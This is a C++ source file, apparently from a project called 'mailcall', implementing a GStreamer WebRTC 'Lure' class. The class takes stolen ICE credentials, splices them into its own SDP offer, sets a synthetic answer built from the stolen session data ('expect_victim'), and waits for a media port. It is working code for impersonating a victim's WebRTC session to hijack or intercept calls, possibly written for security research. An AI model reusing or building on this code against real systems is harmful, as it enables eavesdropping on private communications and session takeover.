// The steps of an offer whose credentials are changed before it is set.
// SPDX-License-Identifier: GPL-3.0-or-later
#define GST_USE_UNSTABLE_API
#include "lure.hh"

#include <gst/sdp/sdp.h>
#include <gst/webrtc/webrtc.h>

#include <cstdlib>
#include <sstream>

#include "base/log.hh"

namespace mailcall::media {
namespace {

using namespace std::chrono_literals;
using SessionDescription =
    base::Owned<GstWebRTCSessionDescription, gst_webrtc_session_description_free>;

SessionDescription parse(int type, const std::string& text)
{
    GstSDPMessage* message = nullptr;
    if (gst_sdp_message_new_from_text(text.c_str(), &message) != GST_SDP_OK) return nullptr;
    return SessionDescription{
        gst_webrtc_session_description_new(static_cast<GstWebRTCSDPType>(type), message)};
}

std::string print(const GstWebRTCSessionDescription* description)
{
    return base::take_string(gst_sdp_message_as_text(description->sdp));
}

// Every line that begins with `mark` gets `value` after it.
std::string with_lines(const std::string& text, const std::string& mark, const std::string& value)
{
    std::string made;
    std::istringstream lines{text};
    for (std::string line; std::getline(lines, line);)
        made += (line.starts_with(mark) ? mark + value + "\r" : line) + "\n";
    return made;
}

}  // namespace

std::uint32_t find_ssrc(const std::string& sdp, const std::string& kind)
{
    constexpr std::string_view mark = "\na=ssrc:";
    auto section = sdp.find("\nm=" + kind);
    auto next = section == std::string::npos ? section : sdp.find("\nm=", section + 1);
    auto found = section == std::string::npos ? section : sdp.find(mark, section);
    if (found == std::string::npos || found > next) return 0;
    const char* digits = sdp.c_str() + found + mark.size();
    return static_cast<std::uint32_t>(std::strtoul(digits, nullptr, 10));
}

Lure::Lure(const Pipeline& pipeline, std::shared_ptr<Inbox> inbox, std::function<void(int)> ready)
    : pipeline_{pipeline}, inbox_{std::move(inbox)}, ready_{std::move(ready)}
{
}

Promise Lure::then(Step step)
{
    return make_promise(inbox_, [this, step](const Reply& reply) {
        if (!reply.error.empty()) return base::log_warning("lure: " + reply.error);
        (this->*step)(reply);
    });
}

void Lure::set(const char* signal, int type, const std::string& sdp, Step next)
{
    auto description = parse(type, sdp);
    auto promise = then(next);
    g_signal_emit_by_name(pipeline_.webrtc(), signal, description.get(), promise.get());
}

void Lure::lay(const wire::Description& stolen)
{
    stolen_ = stolen;
    auto promise = then(&Lure::disguise);
    g_signal_emit_by_name(pipeline_.webrtc(), "create-offer", nullptr, promise.get());
}

void Lure::disguise(const Reply& reply)
{
    GstWebRTCSessionDescription* made = nullptr;
    gst_structure_get(reply.fields.get(), "offer", GST_TYPE_WEBRTC_SESSION_DESCRIPTION, &made,
                      nullptr);
    SessionDescription own{made};
    offer_ = with_lines(print(own.get()), "a=ice-ufrag:", stolen_.ufrag);
    offer_ = with_lines(offer_, "a=ice-pwd:", stolen_.pwd);
    set("set-local-description", GST_WEBRTC_SDP_TYPE_OFFER, offer_, &Lure::expect_victim);
}

void Lure::expect_victim(const Reply&)
{
    set("set-remote-description", GST_WEBRTC_SDP_TYPE_ANSWER,
        wire::make_synthetic_answer(offer_, *stolen_.early), &Lure::wait_for_port);
}

void Lure::wait_for_port(const Reply&) { look_for_port(); }

void Lure::look_for_port()
{
    GstWebRTCSessionDescription* local = nullptr;
    g_object_get(pipeline_.webrtc(), "local-description", &local, nullptr);
    SessionDescription owned{local};
    auto description = wire::read_description(print(owned.get()), {});
    if (!description) return base::log_warning("lure: " + description.error().what);
    if (description->candidates.empty()) return look_.start(20ms);
    std::istringstream fields{description->candidates.front()};
    std::string skipped;
    int port = 0;
    for (int field = 0; field < 5; ++field) fields >> skipped;
    fields >> port;
    ready_(port);
}

}  // namespace mailcall::media
